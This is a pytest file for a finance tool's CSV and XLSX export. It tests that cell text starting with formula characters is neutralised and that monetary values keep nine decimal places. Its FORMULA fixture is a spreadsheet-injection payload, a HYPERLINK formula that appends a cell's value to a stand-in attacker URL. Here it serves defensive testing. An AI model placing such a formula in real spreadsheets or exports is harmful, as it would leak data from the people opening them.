"""Files for finance: no cell is a formula, no nano is lost."""

import csv
import re
from datetime import date
from decimal import Decimal
from io import BytesIO, StringIO
from xml.etree import ElementTree
from zipfile import ZipFile

import pytest

from console.spreadsheets import Sheet, csv_file, neutral, usd, xlsx_file

FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
SHEET = Sheet("spend-2026-11", ["Team", "Day", "USD"], [[FORMULA, date(2026, 11, 21), usd(9_999_999_123_456_789)], ["開発部", None, -3]])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", " =", "\u00a0+"])  # noqa: RUF001
def test_text_that_begins_a_formula_is_made_inert(start: str) -> None:
    assert neutral(f"{start}1+1") == f"'{start}1+1"


def test_ordinary_text_stays_as_it_is() -> None:
    assert [neutral(text) for text in ("Search", "a=b", "開発部", "")] == ["Search", "a=b", "開発部", ""]


def test_csv_keeps_every_nano_and_neutralises_names() -> None:
    response = csv_file(SHEET)
    rows = list(csv.reader(StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1:] == [[f"'{FORMULA}", "2026-11-21", "9999999.123456789"], ["開発部", "", "-3"]]
    assert response["Content-Disposition"] == 'attachment; filename="spend-2026-11.csv"'


def test_xlsx_holds_exact_numbers_and_no_formula() -> None:
    book = ZipFile(BytesIO(xlsx_file(SHEET).content))
    page = book.read("xl/worksheets/sheet1.xml").decode()
    strings = "".join(ElementTree.fromstring(book.read("xl/sharedStrings.xml")).itertext())  # noqa: S314  # we wrote it
    assert "<f>" not in page
    assert f"'{FORMULA}" in strings
    assert Decimal("9999999.123456789") in [Decimal(text) for text in re.findall(r"<v>([^<]+)</v>", page)]


def test_money_has_nine_places() -> None:
    assert str(usd(1)) == "1E-9"
    assert f"{usd(-5_000_000_001):f}" == "-5.000000001"
